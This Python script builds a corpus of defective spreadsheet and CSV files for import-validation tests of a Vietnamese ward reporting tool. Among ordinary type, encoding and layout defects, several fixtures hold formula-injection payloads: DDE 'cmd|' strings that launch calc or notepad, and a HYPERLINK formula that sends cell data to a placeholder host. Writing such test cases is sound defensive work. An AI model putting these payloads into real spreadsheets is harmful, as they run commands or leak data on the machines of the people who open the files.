"""Generate the bad-input corpus of tests/test_import.py (run from the repository root):

    python tests/data/bad/make_corpus.py

Each file is a small variation of one valid filled form (unit 19780, year 2024, the 2023 reference
figures) with one defect; ``expected.yaml`` says which rule ids each must raise. The generated files
are committed; the ones that must be large or are trivial (a 50 MB file, a missing file) are made
at test time. Re-run after changing the form layout (danvan/forms.py), then run the tests.

Also home of small legacy-encoding encoders (TCVN3, VNI, Windows-1258) used by the tests.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import sys
import tempfile
import unicodedata
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[2]
UNIT, YEAR = "19780", 2024

# ---- legacy encoders (inverse of danvan.intake.forms' decoders) -------------------------------------------
_ACU, _GRA, _HOOK, _TIL, _DOT = "\u0301", "\u0300", "\u0309", "\u0303", "\u0323"
_CIRC, _BREVE, _HORN = "\u0302", "\u0306", "\u031b"


def encode_tcvn3(text: str) -> bytes:
    from danvan.intake.forms import _TCVN3

    inverse = {ch: b for b, ch in _TCVN3.items()}
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        if ch in inverse:
            out.append(inverse[ch])
        elif ch.lower() in inverse and not ch.isascii():  # TCVN3 has no toned capitals: a "VnTimeH" font
            out.append(inverse[ch.lower()])
        elif ord(ch) < 128:
            out.append(ord(ch))
        else:
            out += "?".encode()
    return bytes(out)


def encode_vni(text: str) -> bytes:
    singles = {"đ": "ñ", "Đ": "Ñ", "ỉ": "æ", "Ỉ": "Æ", "ĩ": "ó", "Ĩ": "Ó", "ị": "ò", "Ị": "Ò"}
    tone_mark = {_ACU: "ù", _GRA: "ø", _HOOK: "û", _TIL: "õ", _DOT: "ï"}
    circ_mark = {None: "â", _ACU: "á", _GRA: "à", _HOOK: "å", _TIL: "ã", _DOT: "ä"}
    breve_mark = {None: "ê", _ACU: "é", _GRA: "è", _HOOK: "ú", _TIL: "ü", _DOT: "ë"}
    out = []
    for ch in unicodedata.normalize("NFC", text):
        if ch in singles:
            out.append(singles[ch])
            continue
        d = unicodedata.normalize("NFD", ch)
        base, marks = d[0], d[1:]
        if not marks or ch in "ìíÌÍ":
            out.append(ch)
            continue
        tone = next((m for m in marks if m in tone_mark), None)
        up = base.isupper()
        if _HORN in marks:
            s = {"o": "ô", "O": "Ô", "u": "ö", "U": "Ö"}[base] + (tone_mark[tone] if tone else "")
        elif _CIRC in marks:
            s = base + circ_mark[tone]
        elif _BREVE in marks:
            s = base + breve_mark[tone]
        else:
            s = base + tone_mark[tone]
        out.append(s[0] + (s[1:].upper() if up else s[1:]))
    return "".join(out).encode("cp1252", errors="replace")


def encode_cp1258(text: str) -> bytes:
    """Windows-1258 as Windows writes it: base letters (with â ê ô ă ơ ư) plus combining tone marks."""
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        d = unicodedata.normalize("NFD", ch)
        tones = "".join(m for m in d if m in (_ACU, _GRA, _HOOK, _TIL, _DOT))
        base = unicodedata.normalize("NFC", "".join(m for m in d if m not in tones))
        out += base.encode("cp1258", errors="replace") + tones.encode("cp1258")
    return bytes(out)


# ---- base inputs ----------------------------------------------------------------------------------
def reference_values() -> dict[str, str]:
    with open(REPO / "data" / "reference" / UNIT / "2023" / "figures.csv", encoding="utf-8") as fh:
        return {r["indicator"]: r["value"] for r in csv.DictReader(fh)}


def number(text: str):
    return float(text) if "." in text else int(text)


def base_form(tmp: Path) -> Path:
    """The xlsx form for 19780/2024 (last year's values from a reference store), filled."""
    import openpyxl

    from danvan.intake.forms import write_xlsx_form
    from danvan.intake.unitdir import bootstrap_default_store
    from danvan.store import Store

    db = tmp / "ref.sqlite"
    bootstrap_default_store(Store(db))
    path = write_xlsx_form(UNIT, YEAR, tmp / "form.xlsx", db=db)
    ref = reference_values()
    wb = openpyxl.load_workbook(path)
    ws = wb["Số liệu"]
    for row in ws.iter_rows(min_row=8):
        code = row[1].value
        if code in ref:
            row[5].value = number(ref[code])
    wb["Văn bản"]["C4"] = "Đảng ủy phường tiếp tục lãnh đạo công tác dân vận chính quyền năm 2024."
    out = tmp / "filled.xlsx"
    wb.save(out)
    return out


def row_of(ws, code: str) -> int:
    for row in ws.iter_rows(min_row=8):
        if row[1].value == code:
            return row[0].row
    raise KeyError(code)


def csv_lines(values: dict[str, str] | None = None, unit: str = UNIT, year=YEAR) -> list[list[str]]:
    from danvan.reference.catalogue import load_catalogue

    cat = load_catalogue()
    values = reference_values() if values is None else values
    rows = [["unit_code", "year", "section", "indicator", "label", "unit", "last_year", "value", "note"]]
    for ind in cat.data_indicators():
        if ind.code in values:
            rows.append([unit, str(year), ind.section, ind.code, ind.label, ind.unit, "", values[ind.code], ""])
    return rows


def written_lines() -> list[list[str]]:
    """The reference figures, some written as officials write them (a qualifier column too)."""
    rows = csv_lines(dict(reference_values(), REV_TOTAL="7,9", CULT_GROUPS_ACHIEVED="9/9 tổ",
                          CIT_PERIODIC_CITIZENS="không có", GIFT_TET_AMOUNT="139,1 triệu đồng",
                          SEC_REPORTS_ORDER="khoảng 19", HI_VOLUNTARY_PCT="98-99%"))
    rows[0].insert(8, "qualifier")
    for r in rows[1:]:
        r.insert(8, "hơn" if r[3] == "REV_TOTAL" else "")
        if r[3] == "REV_TOTAL":
            r[7] += " tỷ"
    return rows


def to_csv(rows, delimiter=",") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


# ---- the corpus ------------------------------------------------------------------------------------
def make(out: Path) -> list[str]:
    import openpyxl

    out.mkdir(parents=True, exist_ok=True)
    made: list[str] = []
    tmp = Path(tempfile.mkdtemp(prefix="danvan-corpus-"))
    try:
        filled = base_form(tmp)

        def xlsx(name: str, edit) -> None:
            wb = openpyxl.load_workbook(filled)
            edit(wb, wb["Số liệu"])
            wb.save(out / name)
            made.append(name)

        def setv(code, value, fmt=None):
            def edit(wb, ws):
                c = ws.cell(row_of(ws, code), 6)
                c.value = value  # (ws.cell(..., value=None) would leave the cell as it is)
                if fmt:
                    c.number_format = fmt
            return edit

        xlsx("xlsx_percent_out_of_range.xlsx", setv("CULT_FAMILIES_PCT", 120))
        xlsx("xlsx_not_integer.xlsx", setv("POOR_HOUSEHOLDS", 2.5))
        xlsx("xlsx_negative_count.xlsx", setv("DVK_HOUSEHOLDS", -3))
        xlsx("xlsx_not_a_number.xlsx", setv("GIFT_TET_PORTIONS", "năm trăm suất"))
        xlsx("xlsx_unexpected_percent.xlsx", setv("POOR_HOUSEHOLDS", "2%"))
        xlsx("xlsx_date_instead_of_number.xlsx", setv("DVK_GROUPS", dt.datetime(2024, 4, 1)))

        def formula(wb, ws):
            r = row_of(ws, "SEC_REPORTS")
            ws.cell(r, 6).value = f"=F{r + 1}+F{r + 2}"
        xlsx("xlsx_formula_in_value.xlsx", formula)

        def inj_text(wb, ws):
            wb["Văn bản"]["C5"] = "=cmd|' /C calc'!A0"
        xlsx("xlsx_formula_injection_text.xlsx", inj_text)

        def inj_text_string(wb, ws):
            c = wb["Văn bản"]["C6"]
            c.value = "@SUM(1+1)*cmd|' /C calc'!A0"
            c.data_type = "s"
        xlsx("xlsx_formula_injection_at.xlsx", inj_text_string)

        def inj_note(wb, ws):
            ws.cell(row_of(ws, "REV_TOTAL"), 8, "+cmd|' /C notepad'!A0")  # the note (column H)
        xlsx("xlsx_formula_injection_note.xlsx", inj_note)

        def merged(wb, ws):
            r = row_of(ws, "DVK_GREEN_STREETS")
            ws.merge_cells(start_row=r, start_column=6, end_row=r + 1, end_column=6)
        xlsx("xlsx_merged_cells.xlsx", merged)

        def hide_data(wb, ws):
            ws.sheet_state = "hidden"
            wb.active = 1
        xlsx("xlsx_hidden_data_sheet.xlsx", hide_data)

        def extra_hidden(wb, ws):
            s = wb.create_sheet("Nháp")
            s["A1"] = "REV_TOTAL"
            s["B1"] = 123
            s.sheet_state = "hidden"
        xlsx("xlsx_extra_hidden_sheet.xlsx", extra_hidden)

        def renamed(wb, ws):
            ws.title = "Sheet1"
        xlsx("xlsx_sheet_renamed.xlsx", renamed)

        def unknown_code(wb, ws):
            ws.cell(row_of(ws, "DVK_SHOPS"), 2).value = "DVK_SHOP"
        xlsx("xlsx_unknown_indicator.xlsx", unknown_code)

        xlsx("xlsx_parts_sum_mismatch.xlsx", setv("SEC_REPORTS", 35))

        def parts_exceed(wb, ws):
            ws.cell(row_of(ws, "CIT_PETITIONS_PENDING"), 6).value = None
            ws.cell(row_of(ws, "CIT_PETITIONS_RECONCILED"), 6).value = 7
        xlsx("xlsx_parts_exceed_total.xlsx", parts_exceed)

        xlsx("xlsx_numerator_exceeds_denominator.xlsx", setv("BUILD_PERMITTED", 20))
        xlsx("xlsx_required_missing.xlsx", setv("REV_TOTAL", None))

        def unit_unknown(wb, ws):
            ws["B2"] = "99999"
        xlsx("xlsx_unknown_unit.xlsx", unit_unknown)

        def unit_year(wb, ws):
            ws["B3"] = 2026
        xlsx("xlsx_unit_not_in_year.xlsx", unit_year)

        def leading_zero(wb, ws):
            ws["B2"] = 4
            ws["B2"].number_format = "General"
        xlsx("xlsx_unit_code_as_number.xlsx", leading_zero)

        def derived(wb, ws):
            r = ws.max_row + 1
            ws.cell(r, 1, "II.2")
            ws.cell(r, 2, "REV_PCT_ESTIMATE")
            ws.cell(r, 6, 151)
        xlsx("xlsx_derived_value.xlsx", derived)

        def unknown_section(wb, ws):
            wb["Văn bản"]["A5"] = "V"
            wb["Văn bản"]["C5"] = "Nội dung của một mục không có trong danh mục."
        xlsx("xlsx_unknown_section.xlsx", unknown_section)

        xlsx("xlsx_percent_formatted_cell.xlsx", setv("HI_VOLUNTARY_PCT", 0.9875, "0.00%"))
        xlsx("xlsx_value_out_of_range.xlsx", setv("REV_TOTAL", 1e300))  # before: a traceback in store.canonical

        def hidden_row(wb, ws):
            r = row_of(ws, "GIFT_TET_PORTIONS")
            ws.cell(r, 6).value = 999
            ws.row_dimensions[r].hidden = True
        xlsx("xlsx_hidden_row.xlsx", hidden_row)

        def nfd(wb, ws):
            ws.title = unicodedata.normalize("NFD", "Số liệu")
            wb["Văn bản"]["C7"] = unicodedata.normalize("NFD", "Đánh giá chung: hoàn thành tốt nhiệm vụ năm 2024.")
            ws.cell(row_of(ws, "CNCD_GIFT_PORTIONS"), 6).value = unicodedata.normalize("NFD", "1.109 suất")
        xlsx("xlsx_nfd_text.xlsx", nfd)

        def header(wb, ws):
            ws["B7"] = "Ma"
        xlsx("xlsx_header_changed.xlsx", header)

        def value_no_code(wb, ws):
            ws["F8"] = 5  # the section heading row II.2
        xlsx("xlsx_value_without_indicator.xlsx", value_no_code)

        def catalogue_version(wb, ws):
            ws["B4"] = "danvan-core@2022.9"
        xlsx("xlsx_catalogue_version_differs.xlsx", catalogue_version)

        # an unfilled form
        shutil.copy(tmp / "form.xlsx", out / "xlsx_empty_form.xlsx")
        made.append("xlsx_empty_form.xlsx")

        data = filled.read_bytes()
        (out / "xlsx_truncated.xlsx").write_bytes(data[: len(data) // 2])
        made.append("xlsx_truncated.xlsx")
        buf = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
            for item in src.infolist():
                body = src.read(item)
                if item.filename == "xl/worksheets/sheet1.xml":
                    body = body[: len(body) // 3] + b"<<<not xml"
                dst.writestr(item, body)
        (out / "xlsx_corrupt_xml.xlsx").write_bytes(buf.getvalue())
        made.append("xlsx_corrupt_xml.xlsx")
        (out / "xlsx_not_a_zip.xlsx").write_text("đây không phải tệp Excel\n", encoding="utf-8")
        made.append("xlsx_not_a_zip.xlsx")
        (out / "legacy_excel_97.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
        made.append("legacy_excel_97.xls")
        (out / "report.pdf").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
        made.append("report.pdf")

        # ---- CSV ------------------------------------------------------------------------------
        def csv_file(name: str, text: str | None = None, data: bytes | None = None) -> None:
            path = out / name
            if data is None:
                data = ("\ufeff" + text).encode("utf-8")
            path.write_bytes(data)
            made.append(name)

        base = csv_lines()
        rows = [r[:] for r in base]
        rows[5] = rows[5] + ["thừa"]
        csv_file("csv_ragged_row.csv", to_csv(rows))
        legacy = to_csv(base)
        csv_file("csv_tcvn3.csv", data=encode_tcvn3(legacy))
        csv_file("csv_vni.csv", data=encode_vni(legacy))
        csv_file("csv_cp1258.csv", data=encode_cp1258(legacy))
        csv_file("csv_utf16_tab.csv", data=b"\xff\xfe" + to_csv(base, "\t").encode("utf-16-le"))
        vi = [r[:] for r in base]
        for r in vi[1:]:
            r[7] = r[7].replace(".", ",")
        csv_file("csv_semicolon_decimal_comma.csv", to_csv(vi, ";"))
        rows = [r[:] for r in base]
        dup = rows[3][:]
        dup[7] = "999"
        rows.append(dup)
        csv_file("csv_duplicate_conflict.csv", to_csv(rows))
        rows = [r[:] for r in base] + [base[3][:]]
        csv_file("csv_duplicate_same_value.csv", to_csv(rows))
        rows = [[c for i, c in enumerate(r) if i != 7] for r in base]
        csv_file("csv_missing_value_column.csv", to_csv(rows))
        csv_file("csv_unit_code_lost_zeros.csv", to_csv(csv_lines(unit="4")))
        # vietnam-provinces' code of Phường Thuận Hóa (QĐ 19/2025/QĐ-TTg: 19789): resolves, with a note
        csv_file("csv_unit_code_alias.csv", to_csv(csv_lines(unit="19786", year=2026)))
        words = dict(reference_values())
        words.update({"REV_TOTAL": "7.967.592.178 đồng", "CNCD_GIFT_PORTIONS": "1.109 suất",
                      "CIT_PERIODIC_CITIZENS": "không", "CULT_FAMILIES_PCT": "95,2",
                      "HI_VOLUNTARY_PCT": "98,75%", "SEC_OFFENCES_CHANGE": "−8", "CNCD_AMOUNT": "387 triệu đồng"})
        csv_file("csv_vietnamese_numbers.csv", to_csv(csv_lines(words)))
        wrong_unit = dict(reference_values(), GIFT_TET_PORTIONS="492 người")
        csv_file("csv_unit_word_mismatch.csv", to_csv(csv_lines(wrong_unit)))
        two = dict(reference_values(), HI_VOLUNTARY_PCT="100% / 99%")
        csv_file("csv_ambiguous_value.csv", to_csv(csv_lines(two)))
        csv_file("csv_values_as_written.csv", to_csv(written_lines()))
        csv_file("csv_nul_bytes.csv", data=b"unit_code,year,indicator,value\r\n19780,2024,REV_TOTAL,\x00\x00\x00\r\n")
        csv_file("csv_zero_bytes.csv", data=b"")
        csv_file("csv_unknown_encoding.csv",
                 data=b"unit_code,year,indicator,value,note\r\n19780,2024,REV_TOTAL,1,\x81\x8d\x8f\x90\x9d\xfe\xff\r\n")
        rows = [r[:] for r in base]
        rows[2][8] = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
        csv_file("csv_formula_injection_note.csv", to_csv(rows))
        csv_file("csv_bad_year.csv", to_csv(csv_lines(year="2O24")))
        csv_file("csv_missing_unit_code.csv", to_csv(csv_lines(unit="")))
        rows = [r[:] for r in base] + [[UNIT, str(YEAR), "II.2", "REV_PCT_ESTIMATE", "", "%", "", "151", ""]]
        csv_file("csv_derived_value.csv", to_csv(rows))
        nfd_vals = dict(reference_values(), CIT_PERIODIC_CITIZENS=unicodedata.normalize("NFD", "không"),
                        CNCD_GIFT_PORTIONS=unicodedata.normalize("NFD", "1.109 suất"))
        csv_file("csv_nfd_text.csv", unicodedata.normalize("NFD", to_csv(csv_lines(nfd_vals))))
        rows = [r[:] for r in base]
        rows[4][3] = "REV_TOTL"
        csv_file("csv_unknown_indicator.csv", to_csv(rows))
        rows = [r[:] for r in base]
        rows[7][7] = "-12"
        csv_file("csv_negative_count.csv", to_csv(rows))
        csv_file("csv_value_out_of_range.csv", to_csv(csv_lines(dict(reference_values(), REV_TOTAL="1" * 101))))
        csv_file("csv_unit_code_not_ascii.csv", to_csv(csv_lines(unit="\uff11\uff19\uff17\uff18\uff10")))  # １９７８０
        csv_file("csv_year_in_future.csv", to_csv(csv_lines(unit="19789", year=2099)))
        csv_file("csv_trailing_minus.csv", to_csv(csv_lines(dict(reference_values(), DVK_HOUSEHOLDS="5-"))))
        # with extra-catalogue.yaml: the ward states 90% while 17/17 households had a permit
        rows = [r[:] for r in base] + [[UNIT, str(YEAR), "II.2", "X_BUILD_PERMIT_STATED_PCT", "", "%", "", "90", ""]]
        csv_file("csv_percent_mismatch.csv", to_csv(rows))
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    return made


if __name__ == "__main__":
    sys.path.insert(0, str(REPO))
    names = make(HERE)
    print(f"{len(names)} corpus files written to {HERE}")
